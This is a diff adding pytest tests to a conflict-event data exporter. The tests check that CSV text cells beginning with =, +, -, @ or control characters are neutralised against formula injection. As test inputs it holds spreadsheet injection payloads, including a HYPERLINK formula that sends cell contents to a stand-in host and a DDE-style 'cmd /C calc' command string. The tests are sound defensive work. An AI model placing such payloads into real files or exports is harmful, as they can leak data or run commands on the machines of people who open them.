@@ -11,6 +11,7 @@ import pytest
 
 from clashwatch.outputs import RESULT_FORMATS as FORMATS, make_writer, write_results
 from clashwatch.outputs.acled import ACLED_COLUMNS, CSV_COLUMNS, EXTRA_COLUMNS, acled_record, write_acled_csv
+from clashwatch.outputs.base import csv_value
 from clashwatch.outputs.geojson import GeoJsonWriter, write_geojson
 from clashwatch.outputs.jsonout import JsonlWriter, write_json, write_jsonl
 from clashwatch.outputs.table import write_table
@@ -230,6 +231,36 @@ def test_acled_csv_quotes_commas_and_quotes(result):
     write_acled_csv([result], out)
     _, rows = read_csv(out.getvalue())
     assert rows[0]["notes"] == 'He said: "they came at night, with guns".'
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                                  "+1+1", "-2+3", "\t=1", "\r=1", "\x00=1"])
+def test_csv_text_cells_are_never_formulas(text):
+    """CSV injection (OWASP): a text cell starting =, +, -, @, tab, CR or NUL gets a leading quote."""
+    cell = csv_value(text)
+    assert cell.startswith("'") and cell[1:] == text.replace("\r", "\n")
+
+
+def test_csv_numbers_stay_numbers():
+    assert csv_value(-3.5) == "-3.5" and csv_value(-12) == "-12" and csv_value(0.0) == "0.0"
+    assert csv_value("Kidal") == "Kidal" and csv_value("a = b") == "a = b" and csv_value(None) == ""
+    assert csv_value(True) == "true"
+
+
+def test_acled_csv_neutralises_formulas_and_keeps_rows_whole(result):
+    """``clashwatch extract -f acled-csv``: a formula in the outlet's name or an actor stays
+    text, a negative longitude stays a number, a carriage return does not split the row."""
+    result.source = '=HYPERLINK("http://evil.example","x")'
+    result.events[0].location = "Upper\rLower"
+    result.events[0].actor1 = Actor(name="-Group", country_code="ML", inter=3)
+    out = io.StringIO()
+    write_acled_csv([result], out)
+    _, rows = read_csv(out.getvalue())
+    assert len(rows) == 2
+    main = rows[0]
+    assert main["source"] == "'" + result.source
+    assert main["actor1"] == "'-Group" and main["location"] == "Upper\nLower"
+    assert main["longitude"] == "-3.75" and float(main["longitude"]) == -3.75
 
 
 def test_acled_csv_header_only_for_no_events(empty_result):
